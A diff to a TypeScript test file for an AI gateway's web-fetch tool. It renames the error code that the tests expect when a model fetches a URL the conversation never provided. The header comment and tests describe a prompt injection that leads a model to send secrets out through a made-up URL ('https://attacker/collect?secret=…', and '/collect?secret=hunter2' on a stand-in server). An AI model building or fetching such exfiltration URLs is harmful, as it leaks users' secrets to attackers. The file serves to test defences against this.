@@ -1,8 +1,9 @@
 /**
  * Web fetch fetches only URLs the conversation provided, as Anthropic's does: a model talked into writing
- * a URL of its own (a prompt injection's `https://attacker/collect?secret=…`) gets a `url_not_allowed`
- * error block and no request leaves the gateway. A loopback page server stands in for the attacker's host
- * and for the pages the user names (the gateway reaches it with webFetchAllowLoopbackForTests).
+ * a URL of its own (a prompt injection's `https://attacker/collect?secret=…`) gets a
+ * `url_not_in_prior_context` error block and no request leaves the gateway. A loopback page server
+ * stands in for the attacker's host and for the pages the user names (the gateway reaches it with
+ * webFetchAllowLoopbackForTests).
  */
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { startWebPages, type WebPages } from '../fakes/web-pages.ts';
@@ -45,7 +46,7 @@ function resultTheModelGot(): string {
 }
 
 describe('web fetch of a URL the conversation did not provide', () => {
-  it('a made-up URL carrying the conversation is url_not_allowed and never requested', async () => {
+  it('a made-up URL carrying the conversation is url_not_in_prior_context and never requested', async () => {
     suite.emulator.enqueue(
       { toolCalls: [{ name: 'web_fetch', input: { url: `${pages.url}/collect?secret=hunter2` } }] },
       { text: 'done' },
@@ -56,12 +57,12 @@ describe('web fetch of a URL the conversation did not provide', () => {
     expect(message.content.map((b) => b.type)).toEqual(['server_tool_use', 'web_fetch_tool_result', 'text']);
     expect(message.content[1]!.content).toEqual({
       type: 'web_fetch_tool_result_error',
-      error_code: 'url_not_allowed',
+      error_code: 'url_not_in_prior_context',
     });
     expect(message.usage.server_tool_use).toEqual({ web_search_requests: 0, web_fetch_requests: 0 });
     expect(pages.hits).toEqual([]);
     // The model is told and can answer.
-    expect(resultTheModelGot()).toContain('url_not_allowed');
+    expect(resultTheModelGot()).toContain('url_not_in_prior_context');
   });
 
   it('a query added to a URL the user gave is refused too (streaming)', async () => {
@@ -71,7 +72,7 @@ describe('web fetch of a URL the conversation did not provide', () => {
     );
     const { status, text } = await ask(`My password is hunter2. Read ${pages.url}/notes.txt`, true);
     expect(status, text).toBe(200);
-    expect(text).toContain('"error_code":"url_not_allowed"');
+    expect(text).toContain('"error_code":"url_not_in_prior_context"');
     expect(pages.hits).toEqual([]);
   });
 });
